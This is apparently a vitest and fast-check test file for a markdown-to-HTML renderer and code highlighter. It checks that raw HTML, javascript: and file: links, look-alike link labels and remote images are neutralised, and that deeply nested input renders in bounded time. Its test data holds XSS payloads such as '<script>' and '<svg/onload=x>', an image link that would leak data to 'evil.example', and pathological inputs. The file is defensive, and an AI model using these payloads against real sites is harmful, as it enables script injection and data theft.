import fc from "fast-check";
import { expect, test } from "vitest";
import { colouredCode } from "../../../src/adapters/web/code-colours.ts";
import { htmlOf } from "../../../src/adapters/web/format.ts";
import { threadMs } from "../../support/thread-time.ts";

test("markdown becomes headings below the page's own, lists, tasks, tables and code with its language", () => {
  expect(htmlOf("# A\n\n- b\n- c")).toBe('<h3>A</h3><ul dir="auto"><li>b</li><li>c</li></ul>');
  expect(htmlOf("3. x")).toBe('<ol dir="auto" start="3"><li>x</li></ol>');
  expect(htmlOf("- [x] done")).toContain('<input type="checkbox" disabled checked><div>done</div>');
  expect(htmlOf("| a | b |\n|:-|-:|\n| 1 | 2 |")).toContain('<td class="to-right">2</td>');
  expect(htmlOf("```ts\nlet a = 1 < 2;\n```")).toContain(
    '<span class="hljs-number">1</span> &lt; <span class="hljs-number">2</span>;</code>',
  );
  expect(htmlOf("**b** *i* ~~d~~ `c`  \nnext")).toBe(
    "<p><strong>b</strong> <em>i</em> <del>d</del> <code>c</code><br>next</p>",
  );
});

test("R8: raw HTML is shown as text", () => {
  const shown = htmlOf('<script>alert(1)</script>\n\n<b onclick="x()">bold</b> <img src=x onerror=y>');
  expect(shown).not.toMatch(/<(script|b|img)/);
  expect(shown).toContain("&#60;script&#62;");
});

test.each([
  ["javascript:alert(1)"],
  ["JaVaScRiPt:alert(1)"],
  ["data:text/html,script"],
  ["vbscript:x"],
  ["file:///etc/passwd"],
  ["/action"],
  ["//evil.example"],
  ["https://bank.example@evil.example/"],
])("a link to %s is only its text", (url) => {
  const shown = htmlOf(`[here](<${url}>) and [there][1]\n\n[1]: <${url}>`);
  expect(shown).toBe("<p>here and there</p>");
});

test("a link to the web or to mail opens apart and tells nothing about this page", () => {
  const shown = htmlOf('[x](https://a.example/?q="<b>) <mailto:a@b.example> www.c.example');
  expect(shown.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(3);
  expect(shown).toContain('href="https://a.example/?q=%22%3Cb%3E"');
});

test("code has colours that change nothing of it, whatever it is, and none where the language is not known", () => {
  const textOf = (html: string): string =>
    html
      .replace(/<\/?span[^>]*>/g, "")
      .replaceAll(
        /&(?:lt|gt|quot|#x27|#39|amp);/g,
        (sign) => ({ "&lt;": "<", "&gt;": ">", "&quot;": '"', "&amp;": "&" })[sign] ?? "'",
      );
  const unit = fc.constantFrom(..."aA1 \n\t\"'`{}()[]<>/*\\#$@=-;:&", "</code>", "<script>", "class ", "//");
  fc.assert(
    fc.property(
      fc.constantFrom("ts", "html", "python", "bash", "yaml", "PHP", "nolang", ""),
      fc.string({ unit, maxLength: 120 }),
      (language, code) => {
        const coloured = colouredCode(code, language.toLowerCase());
        expect(coloured === undefined).toBe(language === "nolang" || language === "");
        if (coloured === undefined) return;
        expect(coloured.replace(/<span class="[\w -]+">|<\/span>/g, "")).not.toMatch(/[<>]/);
        expect(textOf(coloured)).toBe(code);
      },
    ),
    { numRuns: 300 },
  );
});

test("a link whose label is another address is none, but the address itself is one", () => {
  const anchor = (url: string): string =>
    `<a href="${url}" target="_blank" rel="noopener noreferrer nofollow">${url}</a>`;
  expect(htmlOf("[ASP.NET Core](https://learn.microsoft.com/x)")).toBe(
    `<p>ASP.NET Core (${anchor("https://learn.microsoft.com/x")})</p>`,
  );
  expect(htmlOf("https://müller.de/a")).toBe(`<p>${anchor("https://xn--mller-kva.de/a")}</p>`);
  expect(htmlOf("[https://bank.example](https://evil.example)")).toBe(
    `<p>https://bank.example (${anchor("https://evil.example/")})</p>`,
  );
  expect(htmlOf("[https://**bank.com**/login](https://evil.example)")).toBe(
    `<p>https://<strong>bank.com</strong>/login (${anchor("https://evil.example/")})</p>`,
  );
  expect(htmlOf("[https://*evil.example*@x](https://evil.example)")).toContain(
    `@x (${anchor("https://evil.example/")})`,
  );
});

test("a footnote has its number, and an address that nothing leads to is shown", () => {
  expect(htmlOf("A[^1] B[^2]\n\n[^1]: one\n[^2]: two")).toBe(
    "<p>A<sup>1</sup> B<sup>2</sup></p><div><p><sup>1</sup> one</p></div><div><p><sup>2</sup> two</p></div>",
  );
  expect(htmlOf("[a][1]\n\n[1]: https://a.example\n[2]: https://b.example/x")).toMatch(
    /<p>\[2\]: <a href="https:\/\/b\.example\/x"[^>]*>https:\/\/b\.example\/x<\/a><\/p>$/,
  );
  expect(htmlOf("said\n\n[//]: # (a remark)")).toBe("<p>said</p>");
});

test("S13: an image is a link and nothing is loaded for it", () => {
  const shown = htmlOf(
    "![secret](https://evil.example/p?d=secret) ![](javascript:x) ![r][r]\n\n[r]: https://e.example/i.png",
  );
  expect(shown).not.toContain("<img");
  expect(shown).toContain(">Image: secret</a>");
  expect(shown).toContain("<span>Image</span>");
});

test("no text makes a tag that is not on the list, or an attribute that runs something", () => {
  const tags = new Set(
    "p div span h3 h4 h5 h6 ul ol li input strong em del code pre button a br hr blockquote table thead tbody tr th td sup".split(
      " ",
    ),
  );
  const piece = fc.constantFrom(
    ...'<script>|<img src=x onerror=y>|](javascript:x)|[a|![|`|```html\n|> |- |* |&lt;|"|\'|<!--|https://a.example/"onx=|\n\n|\n|<svg/onload=x>|text|| a | b |\n|-|-|\n|<a href="javascript:x">|[^1]|[^1]: x|\\|\u0000'.split(
      "|",
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const shown = htmlOf(pieces.join(""));
      for (const [, tag] of shown.matchAll(/<\/?([a-z0-9]+)/gi)) expect(tags).toContain(tag);
      for (const [whole] of shown.matchAll(/<[^>]*>/g))
        expect(whole).not.toMatch(/\son\w+\s*=(?=[^"]*(?:"[^"]*"[^"]*)*>)/i);
      expect(shown).not.toMatch(/href="(?!https?:|mailto:)/);
    }),
    { numRuns: 500 },
  );
});

test.each([
  ["quotes in quotes", "> ".repeat(6_000) + "x"],
  ["lists in lists", Array.from({ length: 300 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n")],
  ["lists on one line", "- ".repeat(6_000) + "x"],
  ["numbers on one line", "1. ".repeat(4_000) + "x"],
  ["images in images", "![".repeat(6_000)],
  ["open links", "[a](".repeat(3_000)],
  ["ticks", Array.from({ length: 150 }, (_, n) => "`".repeat(n)).join(" ")],
  ["angles", "<a ".repeat(4_000)],
  ["table cells", `${"|a".repeat(3_000)}|\n${"|-".repeat(3_000)}|\n`],
  ["footnotes", "[^a]: ".repeat(2_000)],
  ["open brackets", "[".repeat(12_000)],
  ["stars", "*a ".repeat(4_000)],
  ["code of one long line", `\`\`\`java\n${"a".repeat(19_000)}\n\`\`\``],
  ["code of long words", `\`\`\`ini\n${`${"a".repeat(480)}\n`.repeat(40)}\n\`\`\``],
  ["a very long text", "word ".repeat(100_000)],
])("hostile text is shown in bounded time: %s", (_, text) => {
  const tookMs = threadMs(() => expect(htmlOf(text).length).toBeGreaterThan(0));
  expect(tookMs).toBeLessThan(5_000);
});

test("R5, R6, R21, R23: tables, links with parentheses, nested lists and code are what they are", () => {
  expect(htmlOf("| a | b | c |\n|-|-|-|\n| x\\|y | | z |")).toContain("<td>x|y</td><td></td><td>z</td>");
  expect(htmlOf("([docs](https://example.org/a_(b)))")).toMatch(
    /^<p>\(<a href="https:\/\/example.org\/a_\(b\)"[^>]*>docs<\/a>\)<\/p>$/,
  );
  expect(htmlOf("- a\n  - b\n    1. c").match(/<(?:ul|ol)/g)).toEqual(["<ul", "<ul", "<ol"]);
  expect(htmlOf("`npm i @acme/pkg`")).toBe("<p><code>npm i @acme/pkg</code></p>");
});
